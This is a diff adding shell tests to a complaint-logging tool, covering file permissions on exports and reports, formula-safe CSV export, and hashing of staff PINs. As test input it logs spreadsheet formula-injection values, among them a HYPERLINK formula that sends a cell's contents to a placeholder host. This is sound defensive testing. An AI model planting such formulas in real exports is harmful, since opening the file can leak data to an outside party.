@@ -73,3 +73,70 @@ if has_cmd receipt; then
 	*) t_fail "the tracking code is stored as an Argon2id hash" "got: ${hash:0:40}" ;;
 	esac
 fi
+
+# --- Exports: owner-only, and no cell a spreadsheet would run --------------
+if has_cmd export; then
+	"$TELLUS" log --kind complaint --complainant child --service "=1+2" --team "+44 20 7946 0000" \
+		--summary '=HYPERLINK("http://example.invalid/?x="&A1,"Click")' \
+		--desired "-2+3" --contact "@SUM(A1:A9)" >/dev/null
+	"$TELLUS" log --kind complaint --complainant parent --service "@Adoption" \
+		--team "'=already quoted" --summary $'\tTabbed words' >/dev/null
+	(umask 022; "$TELLUS" export "$T_DIR/export.csv" >/dev/null 2>"$T_ERR")
+	same "an export is created 0600 under umask 022" "$(mode "$T_DIR/export.csv" 2>&1)" 600
+	# Every cell as a spreadsheet reads it: none may start a formula.
+	bad=$(python3 - "$T_DIR/export.csv" <<'PY'
+import csv, sys
+with open(sys.argv[1], newline="", encoding="utf-8") as f:
+    rows = list(csv.reader(f))
+cells = [c for r in rows[1:] for c in r]
+print(len([c for c in cells if c[:1] in ("=", "+", "-", "@", "\t")]), len(cells))
+PY
+)
+	same "none of the ${bad##* } exported cells starts with = + - @ or a tab" "${bad%% *}" 0
+	if grep -q "'=HYPERLINK" "$T_DIR/export.csv" && grep -q "''=already quoted" "$T_DIR/export.csv"; then
+		t_ok "formula cells are written with a leading ' (and a leading ' is doubled)"
+	else
+		t_fail "formula cells are written with a leading ' (and a leading ' is doubled)" \
+			"$(grep -m2 -E "HYPERLINK|already" "$T_DIR/export.csv")"
+	fi
+	# export -> import -> export is exact: the guard comes off on import.
+	TELLUS_DB=$T_DIR/again.db "$TELLUS" import "$T_DIR/export.csv" >/dev/null 2>"$T_ERR"
+	TELLUS_DB=$T_DIR/again.db "$TELLUS" export "$T_DIR/export2.csv" >/dev/null 2>>"$T_ERR"
+	if cmp -s "$T_DIR/export.csv" "$T_DIR/export2.csv"; then
+		t_ok "export, import, export again gives the same bytes"
+	else
+		t_fail "export, import, export again gives the same bytes" "$(head -c 300 "$T_ERR")" \
+			"$(diff "$T_DIR/export.csv" "$T_DIR/export2.csv" | head -5)"
+	fi
+	sqlite3 "$T_DIR/again.db" "SELECT summary FROM cases WHERE summary LIKE '%HYPERLINK%'" >"$T_OUT"
+	same "the imported words are the words logged, without the guard" "$(cat "$T_OUT")" \
+		'=HYPERLINK("http://example.invalid/?x="&A1,"Click")'
+fi
+
+# --- Reports hold people's words too --------------------------------------
+if has_cmd report; then
+	for fmt in csv html; do
+		(umask 022; "$TELLUS" report --year 2025 --format $fmt --out "$T_DIR/report-$fmt" \
+			>/dev/null 2>"$T_ERR")
+		modes=$(find "$T_DIR/report-$fmt" -type f -printf '%m\n' | sort -u | tr '\n' ' ')
+		same "a $fmt report folder is created 0700 under umask 022" "$(mode "$T_DIR/report-$fmt" 2>&1)" 700
+		same "every $fmt report file is created 0600" "$modes" "600 "
+	done
+fi
+
+# --- Staff PINs --------------------------------------------------------------
+if has_cmd staff; then
+	echo 73950164 | "$TELLUS" staff add "Sam Manager" --role manager >"$T_OUT" 2>"$T_ERR"
+	same "staff add takes the PIN on stdin" "$(sqlite3 "$TELLUS_DB" \
+		"SELECT count(*) FROM staff WHERE name = 'Sam Manager'")" 1
+	hash=$(sqlite3 "$TELLUS_DB" "SELECT pin_hash FROM staff WHERE name = 'Sam Manager'")
+	case $hash in
+	'$argon2id$'*) t_ok "a staff PIN is stored as an Argon2id hash" ;;
+	*) t_fail "a staff PIN is stored as an Argon2id hash" "got: ${hash:0:40}" ;;
+	esac
+	"$TELLUS" audit >"$T_DIR/audit.out" 2>&1
+	sqlite3 "$TELLUS_DB" .dump >"$T_DIR/dump.sql"
+	leaks=$(grep -la 73950164 "$TELLUS_DB" "$TELLUS_DB"-wal "$T_DIR/dump.sql" "$T_DIR/audit.out" \
+		"$T_OUT" "$T_ERR" 2>/dev/null | xargs -r -n1 basename)
+	same "the PIN is nowhere in the database, the audit trail or the output" "$leaks" ""
+fi
